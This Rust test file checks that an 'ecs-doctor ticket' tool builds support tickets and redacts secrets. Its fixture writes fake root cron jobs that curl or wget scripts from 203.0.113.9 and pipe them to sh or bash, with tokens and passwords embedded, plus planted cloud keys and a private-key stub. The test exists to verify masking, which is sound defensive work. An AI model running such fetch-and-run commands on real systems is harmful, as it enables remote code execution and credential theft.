//! `ecs-doctor ticket` offline: the file backend, dry runs, labels in Chinese, runs without a
//! terminal (never a question) and on one (the questions, through a pseudo-terminal), and the
//! planted-secret corpus that must not appear in anything the ticket produces.

use super::ticket_lab::check_bundle;
use crate::common::{doctor_cmd, fixture_root, on_a_pty, project_dir, require, stderr, stdout, valid_report, write};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn mixed() -> String {
    project_dir().join("tests/fixtures/reports/mixed.json").display().to_string()
}

/// `ecs-doctor ARGS` in its own network namespace with state and reports in `dir`.
fn ticket_cmd(dir: &Path, args: &[&str]) -> Option<Command> {
    let mut cmd = doctor_cmd(args)?;
    cmd.env("ECS_DOCTOR_TICKET_DIR", dir.join("state")).env("ECS_DOCTOR_REPORT_DIR", dir.join("reports"));
    cmd.env("TZ", "Asia/Shanghai").stdin(Stdio::null());
    Some(cmd)
}

fn run(dir: &Path, args: &[&str]) -> Option<Output> {
    Some(ticket_cmd(dir, args)?.output().expect("run"))
}

/// The one directory the file backend wrote under `out`.
fn written(out: &Path) -> PathBuf {
    let dirs: Vec<PathBuf> = std::fs::read_dir(out).expect("out dir").flatten().map(|e| e.path()).collect();
    assert_eq!(dirs.len(), 1, "{dirs:?}");
    dirs[0].clone()
}

fn bundle_in(dir: &Path) -> Vec<u8> {
    let b =
        std::fs::read_dir(dir).expect("dir").flatten().find(|e| e.file_name().to_string_lossy().ends_with(".tar.gz"));
    std::fs::read(b.expect("bundle").path()).expect("read bundle")
}

#[test]
fn file_backend_writes_the_ticket_and_bundle_and_records_them() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out_dir = dir.path().join("out");
    let from = mixed();
    let out_s = out_dir.to_str().expect("p");
    let Some(out) = run(
        dir.path(),
        &[
            "ticket",
            "--from",
            &from,
            "--out",
            out_s,
            "--impact",
            "degraded",
            "--since",
            "2026-11-20 09:30",
            "--tried",
            "rebooted the instance",
            "--tried",
            "restarted nginx",
            "--email",
            "ops@example.com",
            "--title",
            "web-1: DNS and routing broken",
        ],
    ) else {
        return;
    };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let t = written(&out_dir);
    assert!(stdout(&out).contains(&format!("Ticket written to {}", t.display())), "{}", stdout(&out));
    for f in ["ticket.md", "ticket.json"] {
        let mode = std::fs::metadata(t.join(f)).expect(f).permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{f}");
    }
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(t.join("ticket.json")).expect("json")).expect("ticket JSON");
    assert_eq!(json["schema"], "ecs-doctor/ticket/v1");
    assert_eq!(json["title"], "web-1: DNS and routing broken");
    assert_eq!(json["impact"], "degraded");
    assert_eq!(json["severity"], "urgent", "crit checks and an impact: urgent");
    assert_eq!(json["started"]["at"], "2026-11-20T09:30:00+08:00");
    assert_eq!(json["tried"], serde_json::json!(["rebooted the instance", "restarted nginx"]));
    assert_eq!(json["email"], "ops@example.com");
    assert_eq!(json["instance"]["hostname"], "web-1");
    assert!(json["tags"].as_array().expect("tags").contains(&serde_json::json!("network")));
    assert!(json["error_codes"].as_array().expect("codes").contains(&serde_json::json!("ENETUNREACH")));
    assert!(json["logs"][0]["lines"][0].as_str().is_some_and(|l| l.contains("/proc/net/route")));
    let md = std::fs::read_to_string(t.join("ticket.md")).expect("md");
    for section in
        ["## Instance", "## Symptoms", "## Error codes", "## Log snippets", "## Already tried", "## Attachments"]
    {
        assert!(md.contains(section), "{section} missing:\n{md}");
    }
    let files = check_bundle(&bundle_in(&t));
    let report = files.iter().find(|f| f.0.ends_with("/report.json")).expect("report.json");
    valid_report(&String::from_utf8_lossy(&report.1));
    let mode = std::fs::metadata(t.join(json["attachments"][0].as_str().expect("attachment"))).expect("bundle");
    assert_eq!(mode.permissions().mode() & 0o777, 0o600);
    let ledger = std::fs::read_to_string(dir.path().join("state/ledger.jsonl")).expect("ledger");
    assert!(
        ledger.contains("\"backend\":\"file\"") && ledger.contains(&json["key"].as_str().expect("key").to_string())
    );
    let Some(status) = run(dir.path(), &["ticket", "status"]) else { return };
    assert!(stdout(&status).contains(&format!("Status of ticket {} (file", t.display())), "{}", stdout(&status));
    // The preview came first, with the mask counts.
    assert!(
        stdout(&out).contains("This is exactly what will be sent") && stdout(&out).contains("Masked before sending")
    );
}

#[test]
fn dry_run_prints_the_payload_and_writes_and_sends_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let Some(out) = run(
        dir.path(),
        &["ticket", "--from", &from, "--backend", "webhook", "--endpoint", "http://127.0.0.1:9/hook", "--dry-run"],
    ) else {
        return;
    };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let s = stdout(&out);
    assert!(s.contains("webhook: POST http://127.0.0.1:9/hook") && s.contains("Idempotency-Key: ecsd-"), "{s}");
    let json_start = s.find("{\n").expect("the JSON body is shown");
    assert!(s[json_start..].contains("\"schema\": \"ecs-doctor/ticket/v1\""));
    assert!(stderr(&out).contains("Dry run: nothing was written or sent."));
    assert!(!dir.path().join("state").exists(), "a dry run keeps no state");
}

#[test]
fn host_names_are_masked_with_stable_pseudonyms() {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let Some(out) = run(dir.path(), &["ticket", "--from", &from, "--dry-run", "--mask-hostnames"]) else { return };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let s = stdout(&out);
    assert!(!s.contains("web-1"), "{s}");
    assert!(s.contains("# host-1.example: ") && s.contains("| hostname | host-1.example |"), "{s}");
    assert!(s.contains("  hostname: "), "counted:\n{s}");
}

#[test]
fn labels_follow_lang() {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let Some(out) = run(dir.path(), &["ticket", "--from", &from, "--dry-run", "--lang", "zh-CN", "--impact", "none"])
    else {
        return;
    };
    let s = stdout(&out);
    for label in ["## 问题现象", "建议紧急程度", "一般", "暂无业务影响", "## 日志片段", "发送前已屏蔽"]
    {
        assert!(s.contains(label), "{label}:\n{s}");
    }
}

#[test]
fn without_a_terminal_it_never_asks_and_says_what_stayed_empty() {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let out_dir = dir.path().join("out");
    let Some(mut cmd) = ticket_cmd(dir.path(), &["ticket", "--from", &from, "--out", out_dir.to_str().expect("p")])
    else {
        return;
    };
    // stdin stays open and silent: a question would hang until the deadline below.
    let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("spawn");
    let _keep_open = child.stdin.take();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while child.try_wait().expect("wait").is_none() {
        assert!(std::time::Instant::now() < until, "ecs-doctor ticket waited for input without a terminal");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().expect("output");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("Fields left empty (set them with flags): impact (--impact), started (--since), tried (--tried)"),
        "{err}"
    );
    assert!(!err.contains("How does the problem") && !stdout(&out).contains("How does the problem"));
    written(&out_dir);

    // A network backend without a terminal to confirm on needs --yes; nothing is sent.
    let Some(out) =
        run(dir.path(), &["ticket", "--from", &from, "--backend", "webhook", "--endpoint", "http://127.0.0.1:9/h"])
    else {
        return;
    };
    assert_eq!(out.status.code(), Some(64));
    assert!(stderr(&out).contains("add --yes"), "{}", stderr(&out));
    assert!(!dir.path().join("state/spool").exists());
}

#[test]
fn on_a_terminal_it_asks_multiple_choice_then_free_text_then_confirms() {
    if !require(Command::new("script").arg("-V").output().is_ok(), "util-linux `script` is not installed") {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let out_dir = dir.path().join("out");
    let Some(cmd) = ticket_cmd(dir.path(), &["ticket", "--from", &from, "--out", out_dir.to_str().expect("p")]) else {
        return;
    };
    // impact: 1 (down); started: 2 (within the hour), Enter keeps the estimate; tried: 1 and
    // 5 (other) + its text; title: Enter; description; e-mail: Enter; send: y.
    let answers = "1\n2\n\n1,5\ncleared /tmp\n\nDisk full since the nightly batch\n\ny\n";
    let out = on_a_pty(&cmd, answers);
    let screen = stdout(&out);
    for q in [
        "How does the problem affect your service?",
        "  1) service down",
        "When did it start?",
        "What have you already tried?",
        "What else did you try?",
        "Send this ticket? [y/N]",
    ] {
        assert!(screen.contains(q), "{q:?} not asked:\n{screen}");
    }
    assert!(screen.contains("This is exactly what will be sent"), "preview before the question:\n{screen}");
    let t = written(&out_dir);
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(t.join("ticket.json")).expect("json")).expect("ticket JSON");
    assert_eq!(json["impact"], "down");
    assert_eq!(json["started"]["source"], "approximate");
    assert_eq!(json["tried"], serde_json::json!(["restarted the service", "cleared /tmp"]));
    assert_eq!(json["description"], "Disk full since the nightly batch");
    assert!(json.get("email").is_none());
    assert_eq!(json["severity"], "urgent");
}

#[test]
fn answering_no_sends_nothing() {
    if !require(Command::new("script").arg("-V").output().is_ok(), "util-linux `script` is not installed") {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let out_dir = dir.path().join("out");
    let Some(cmd) = ticket_cmd(
        dir.path(),
        &[
            "ticket",
            "--from",
            &from,
            "--out",
            out_dir.to_str().expect("p"),
            "--impact",
            "none",
            "--since",
            "now",
            "--tried",
            "nothing",
            "--description",
            "x",
            "--email",
            "a@b.c",
            "--title",
            "t",
        ],
    ) else {
        return;
    };
    let out = on_a_pty(&cmd, "n\n");
    let screen = stdout(&out);
    assert!(!screen.contains("How does the problem"), "every field was given: no question but the last\n{screen}");
    assert!(screen.contains("Cancelled: nothing was sent."), "{screen}");
    assert!(!out_dir.exists());
}

/// Secrets planted in config files, command lines and log lines of a system, and typed into
/// the ticket; none may appear in the preview, the ticket, the bundle or the saved report.
const PLANTED: &[&str] = &[
    "plantedCronTok3n",
    "InnocentDbPassw0rd",
    "LTAI5tPlantedKeyId0000",
    "PlantedAkSecret0123456789abcd",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjb3JwIn0",
    "c2lnbmF0dXJlX3BsYW50ZWQ",
    "PlantedWgetPw",
    "AKIAPLANTED0AWS0KEY0",
    "PlantedStsSecretValue",
    "CAISplantedStsToken",
    "MIIEpQIBAAKCAQEAplantedPemLine1",
    "plantedPemLine2xyz",
    "PlantedDescPw9",
    "LTAI5tPlantedDescKey00",
    "PlantedTriedTok",
    "PlantedBearerTok.abc",
    "203.0.113.66",
];

fn corpus() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    for fixture in ["ds-klog", "sec-intrusion"] {
        let ok =
            Command::new("cp").arg("-a").arg(fixture_root(fixture).join(".")).arg(dir.path()).status().expect("cp");
        assert!(ok.success());
    }
    let r = dir.path();
    write(
        &r.join("etc/cron.d/backup"),
        "*/5 * * * * root curl -s -H \"Authorization: Bearer PlantedBearerTok.abc\" http://203.0.113.9/u.sh | \
         ALIBABA_CLOUD_ACCESS_KEY_SECRET=PlantedAkSecret0123456789abcd sh\n\
         */7 * * * * root wget --password=PlantedWgetPw -q -O- http://203.0.113.9/v.sh | bash\n\
         */9 * * * * root curl -s \"http://203.0.113.9/w.sh?jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjb3JwIn0.c2lnbmF0dXJlX3BsYW50ZWQ\" | sh\n",
    );
    let log = r.join("var/log/kern.log");
    let mut text = std::fs::read(&log).expect("kern.log");
    text.extend_from_slice(
        "2024-03-02T09:10:00.000000+08:00 web-1 kernel: [ 7800.000000] blk_update_request: I/O error, dev vdb, sector 4096 \
         op 0x1:(WRITE) uploader key LTAI5tPlantedKeyId0000 AKIAPLANTED0AWS0KEY0\n\
         2024-03-02T09:10:01.000000+08:00 web-1 app[1]: credentials {\"AccessKeyId\": \"STS.NTplantedStsKeyId00000\", \
         \"AccessKeySecret\": \"PlantedStsSecretValue\", \"SecurityToken\": \"CAISplantedStsToken\"}\n\
         2024-03-02T09:10:02.000000+08:00 web-1 app[1]: -----BEGIN RSA PRIVATE KEY-----\n\
         MIIEpQIBAAKCAQEAplantedPemLine1\n\
         plantedPemLine2xyz\n\
         -----END RSA PRIVATE KEY-----\n\
         2024-03-02T09:10:03.000000+08:00 web-1 kernel: [ 7803.000000] EXT4-fs error (device vdb1): remounting read-only\n"
            .as_bytes(),
    );
    std::fs::write(&log, text).expect("write kern.log");
    dir
}

fn assert_clean(what: &str, text: &str) {
    for s in PLANTED {
        assert!(!text.contains(s), "{s:?} leaked into {what}:\n{text}");
    }
}

#[test]
fn planted_secrets_appear_nowhere() {
    let root = corpus();
    let dir = tempfile::tempdir().expect("tempdir");
    let out_dir = dir.path().join("out");
    let root_s = root.path().to_str().expect("p");
    let args = [
        "ticket",
        "--root",
        root_s,
        "--out",
        out_dir.to_str().expect("p"),
        "--mask-ips",
        "--description",
        "our db password=PlantedDescPw9 and key LTAI5tPlantedDescKey00",
        "--tried",
        "rotated token=PlantedTriedTok",
        "--impact",
        "degraded",
    ];
    // No saved report yet: a fresh diagnosis of the corpus runs first and is saved.
    let Some(out) = run(dir.path(), &args) else { return };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stderr(&out).contains("running a fresh diagnosis first"), "{}", stderr(&out));
    let preview = stdout(&out);
    assert_clean("the preview", &preview);
    assert!(preview.contains("[REDACTED:"), "{preview}");
    assert!(preview.contains("ip: "), "mask counts shown:\n{preview}");

    let t = written(&out_dir);
    for f in ["ticket.md", "ticket.json"] {
        assert_clean(f, &std::fs::read_to_string(t.join(f)).expect(f));
    }
    let md = std::fs::read_to_string(t.join("ticket.md")).expect("md");
    assert!(md.contains("sec.persistence.cron") && md.contains("disk.io.errors"), "the findings are there:\n{md}");
    assert!(md.contains("198.18."), "a masked address:\n{md}");
    let files = check_bundle(&bundle_in(&t));
    let mut saw_log = false;
    for (name, data, _) in &files {
        let text = String::from_utf8_lossy(data);
        assert_clean(name, &text);
        if name.ends_with("logs/var/log/kern.log") {
            saw_log = true;
            assert!(
                text.contains("[REDACTED:private-key]") && text.contains("Remounting filesystem read-only"),
                "{text}"
            );
        }
    }
    assert!(saw_log, "the cited kern.log is in the bundle: {:?}", files.iter().map(|f| &f.0).collect::<Vec<_>>());

    let reports: Vec<PathBuf> = std::fs::read_dir(dir.path().join("reports/examined"))
        .expect("reports saved")
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(!reports.is_empty());
    for r in reports {
        let text = std::fs::read_to_string(&r).expect("report");
        valid_report(&text);
        assert!(text.contains("[REDACTED:"), "the saved report's evidence had secrets to redact");
        for s in PLANTED.iter().filter(|s| !s.starts_with("203.") && !s.contains("Desc") && !s.contains("Tried")) {
            assert!(!text.contains(s), "{s:?} leaked into the saved report {}", r.display());
        }
    }

    // The same corpus as a dry run to the webhook: the preview is clean too.
    let Some(out) = run(
        dir.path(),
        &[
            "ticket",
            "--root",
            root_s,
            "--backend",
            "webhook",
            "--endpoint",
            "http://127.0.0.1:9/h",
            "--dry-run",
            "--mask-ips",
            "--description",
            "password=PlantedDescPw9",
        ],
    ) else {
        return;
    };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_clean("the webhook preview", &stdout(&out));
}

#[test]
fn the_latest_report_is_used_while_fresh_and_diagnosed_again_when_old() {
    let dir = tempfile::tempdir().expect("tempdir");
    let reports = dir.path().join("reports");
    std::fs::create_dir_all(&reports).expect("mkdir");
    // Saved 2026-11-20T03:00Z: older than the default 30 minutes.
    std::fs::copy(mixed(), reports.join("latest.json")).expect("copy");
    let cfg = dir.path().join("c.toml");
    write(&cfg, "[ticket]\nmax_report_age = 1e12\n");
    let Some(out) = run(dir.path(), &["ticket", "--dry-run", "--config", cfg.to_str().expect("p")]) else { return };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stderr(&out).contains("fresh diagnosis"), "{}", stderr(&out));
    assert!(stdout(&out).contains("0b6f7c1e-5a4e-4bd5-9c1d-2f8e0f6b7a10"), "built from latest.json");

    // A ticket about a system examined with --root never carries the live host's report, fresh
    // or not.
    let root = fixture_root("healthy");
    let (r, c) = (root.to_str().expect("p"), cfg.to_str().expect("p"));
    let Some(out) = run(dir.path(), &["ticket", "--dry-run", "--root", r, "--config", c]) else { return };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stderr(&out).contains("running a fresh diagnosis first"), "{}", stderr(&out));
    assert!(!stdout(&out).contains("0b6f7c1e-5a4e-4bd5-9c1d-2f8e0f6b7a10"), "not the live host's report");
    let latest = std::fs::read_to_string(reports.join("latest.json")).expect("latest");
    assert_eq!(valid_report(&latest)["run"]["id"], "0b6f7c1e-5a4e-4bd5-9c1d-2f8e0f6b7a10", "a dry run saves nothing");

    // Not a dry run: the fresh diagnosis is saved and the ticket cites it.
    let out_dir = dir.path().join("out");
    let Some(out) =
        run(dir.path(), &["ticket", "--root", root.to_str().expect("p"), "--out", out_dir.to_str().expect("p")])
    else {
        return;
    };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // Saved with the reports of examined systems; the live host's latest stays its own.
    let latest = std::fs::read_to_string(reports.join("examined/latest.json")).expect("new latest");
    let fresh = valid_report(&latest);
    let id = fresh["run"]["id"].as_str().expect("id");
    assert_ne!(id, "0b6f7c1e-5a4e-4bd5-9c1d-2f8e0f6b7a10");
    assert!(stdout(&out).contains(id), "built from the fresh report");
    let live = std::fs::read_to_string(reports.join("latest.json")).expect("latest");
    assert_eq!(valid_report(&live)["run"]["id"], "0b6f7c1e-5a4e-4bd5-9c1d-2f8e0f6b7a10");
    // The next ticket about the same root reuses that report while it is fresh.
    let Some(out) = run(dir.path(), &["ticket", "--dry-run", "--root", r, "--config", c]) else { return };
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stderr(&out).contains("fresh diagnosis"), "{}", stderr(&out));
    assert!(stdout(&out).contains(id), "built from the examined root's latest report");
}

#[test]
fn bad_settings_are_usage_errors_that_say_where() {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = mixed();
    let cfg = dir.path().join("c.toml");
    write(&cfg, "[ticket]\nbackend = \"file\"\nbogus = 1\n");
    let Some(out) = run(dir.path(), &["ticket", "--from", &from, "--config", cfg.to_str().expect("p")]) else { return };
    assert_eq!(out.status.code(), Some(64));
    assert!(stderr(&out).contains("c.toml:3:"), "{}", stderr(&out));
    let Some(out) = run(dir.path(), &["ticket", "--from", &from, "--since", "last tuesday-ish"]) else { return };
    assert_eq!(out.status.code(), Some(64));
    assert!(stderr(&out).contains("--since") && stderr(&out).contains("3h ago"), "{}", stderr(&out));
    let Some(out) = run(dir.path(), &["ticket", "--from", "/nonexistent/r.json"]) else { return };
    assert_eq!(out.status.code(), Some(64));
    assert!(stderr(&out).contains("/nonexistent/r.json: cannot read"), "{}", stderr(&out));
    let Some(out) = run(dir.path(), &["ticket", "--from", &from, "--backend", "webhook", "--yes"]) else { return };
    assert_eq!(out.status.code(), Some(64));
    assert!(stderr(&out).contains("--endpoint"), "{}", stderr(&out));
}
